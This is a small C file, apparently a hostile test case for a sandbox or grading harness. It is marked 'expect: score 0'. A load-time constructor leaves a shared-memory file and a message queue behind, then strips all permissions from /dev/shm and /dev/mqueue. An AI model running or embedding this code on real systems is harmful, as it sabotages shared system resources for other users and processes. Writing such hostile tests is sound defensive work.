/* hostile: 留下共享内存和消息队列，再让人打不开放名字的目录 / leaves shared memory and a queue behind and locks the folders of their names — expect: score 0 */

#include "raw.h"

__attribute__((constructor)) static void attack(void)
{
    close(open("/dev/shm/hostile", O_RDWR | O_CREAT, 0666));
    close((int)syscall(SYS_mq_open, "hostile", O_RDWR | O_CREAT, 0666, 0L));
    chmod("/dev/shm", 0);
    chmod("/dev/mqueue", 0);
}
